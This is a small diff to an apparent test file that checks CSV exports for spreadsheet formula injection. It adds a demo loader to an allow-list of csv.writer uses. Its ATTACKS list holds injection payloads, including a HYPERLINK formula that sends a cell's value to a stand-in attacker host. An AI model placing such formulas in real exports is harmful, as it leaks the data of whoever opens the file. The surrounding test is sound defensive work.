@@ -27,6 +27,8 @@ GUARD = PACKAGE / "common" / "spreadsheet.py"
 NOT_SPREADSHEETS = {
     # The demo county's import files: the program's own text, read back by `import-vouchers`.
     "demo/generator.py": {"csv.writer"},
+    # The same files split by month for the demo's clock (rows copied as read, amounts included).
+    "demo/loading.py": {"csv.writer"},
 }
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1)", "+1", "\t=1", "-2+3", "\r=1"]
 
